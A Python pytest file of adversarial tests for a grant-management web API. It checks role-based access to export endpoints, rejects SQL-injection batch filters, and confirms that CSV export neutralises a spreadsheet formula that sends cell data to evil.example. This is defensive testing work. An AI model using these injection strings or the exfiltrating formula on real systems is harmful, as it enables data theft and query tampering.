"""Adversary: the operators' overdue co-signatures and the batch's baselines.csv through
HTTP: who may read them, batch filters built to change the visibility query, and an
applicant's change description in the export."""

from __future__ import annotations

import csv
import io
import uuid

import httpx
import pytest

from domain.roles import Role
from tests import support
from tests.api_support import Caller, token
from tests.driver import Harness
from tests.test_adversary_award_list import FORMULA_START

REGIONS = {"city": support.CITY, "city_finance": support.CITY, "county": support.COUNTY}

# Filters that would widen or break the visibility query if pasted into it.
INJECTIONS = ["x' OR WorkflowType = 'ProjectWorkflow", "x') OR ('a' = 'a", "x\" OR 1=1",
              "x AND GfStage = 'draft'", "x;DROP", "x y", "'", "", "批次", "x" * 65,
              "x%", "x\\", "x*", "x\n"]


def caller(http: httpx.AsyncClient, role: str, unit: str | None = None) -> Caller:
    return Caller(http, token(role, f"{role}-adv-{uuid.uuid4().hex[:4]}",
                              REGIONS.get(role, support.CITY if role == "applicant" else "37"),
                              unit))


async def test_only_operators_read_the_overdue_cosignatures(
    ts: Harness, http: httpx.AsyncClient,
) -> None:
    d = await ts.start("2026")
    bid = d.project.batch.batch_id
    for role in Role:
        if role is Role.SYSTEM:
            continue
        r = await caller(http, role.value, support.UNIT).get(
            "/operator/cosigns-overdue", params={"batch_id": bid})
        assert r.status_code == (200 if role is Role.OPERATOR else 403), (role, r.text)
    r = await http.get("/operator/cosigns-overdue")
    assert r.status_code == 401


@pytest.mark.parametrize("batch_id", INJECTIONS)
async def test_a_batch_filter_cannot_change_the_visibility_query(
    ts: Harness, http: httpx.AsyncClient, batch_id: str,
) -> None:
    operator = caller(http, "operator")
    r = await operator.get("/operator/cosigns-overdue", params={"batch_id": batch_id})
    assert r.status_code == 422, (batch_id, r.text)
    body = r.json()
    assert body["rule"] == "INPUT" and body["message_zh"] and body["message_en"], body


async def test_baselines_csv_roles_and_a_description_that_is_a_formula(
    ts: Harness, http: httpx.AsyncClient,
) -> None:
    """The applicant writes the change's description; the province approves it; the
    description was a live formula in baselines.csv (fixed with the other exports)."""
    d = await ts.start("2026")
    await d.to_implementation()
    evil = '=WEBSERVICE("http://evil.example/?"&A2&B2)'
    await d.do("request_change", kind="research_content", description=evil)
    await d.do("city_approve_change", Role.CITY)
    await d.do("province_approve_change")
    bid = d.project.batch.batch_id
    url = f"/batches/{bid}/baselines.csv"
    for role in Role:
        if role is Role.SYSTEM:
            continue
        r = await caller(http, role.value, d.project.applicant_unit).get(url)
        allowed = role in (Role.PROVINCE, Role.PROVINCE_FINANCE, Role.AUDITOR)
        assert r.status_code == (200 if allowed else 403), (role, r.text)
    province = caller(http, "province")
    assert (await province.get("/batches/none-such/baselines.csv")).status_code == 404
    rows: list[list[str]] = []
    for _ in range(100):  # the projection follows the decision
        r = await province.get(url)
        assert r.status_code == 200, r.text
        rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
        if len(rows) == 3:
            break
    assert len(rows) == 3, rows
    assert rows[2][5] == "'" + evil
    assert [c for row in rows for c in row if c.startswith(FORMULA_START)] == []
